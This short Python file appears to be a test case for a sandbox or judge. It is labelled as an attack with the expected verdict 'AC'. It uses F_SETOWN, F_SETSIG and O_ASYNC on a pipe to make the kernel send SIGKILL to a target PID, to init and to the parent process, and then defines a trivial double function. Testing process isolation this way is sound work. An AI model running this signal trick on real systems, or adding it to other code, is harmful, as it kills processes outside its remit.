# attack: has the kernel send signals for it: F_SETOWN, timers and message queues
# verdict: AC
import fcntl
import os
import signal

ours, theirs = os.pipe()
for pid in (@PID@, 1, os.getppid()):
    try:
        fcntl.fcntl(ours, fcntl.F_SETOWN, pid)
        fcntl.fcntl(ours, 10, signal.SIGKILL)
        fcntl.fcntl(ours, fcntl.F_SETFL, os.O_ASYNC)
        os.write(theirs, b"x")
        os.read(ours, 1)
    except OSError:
        pass


def double(n):
    return n * 2
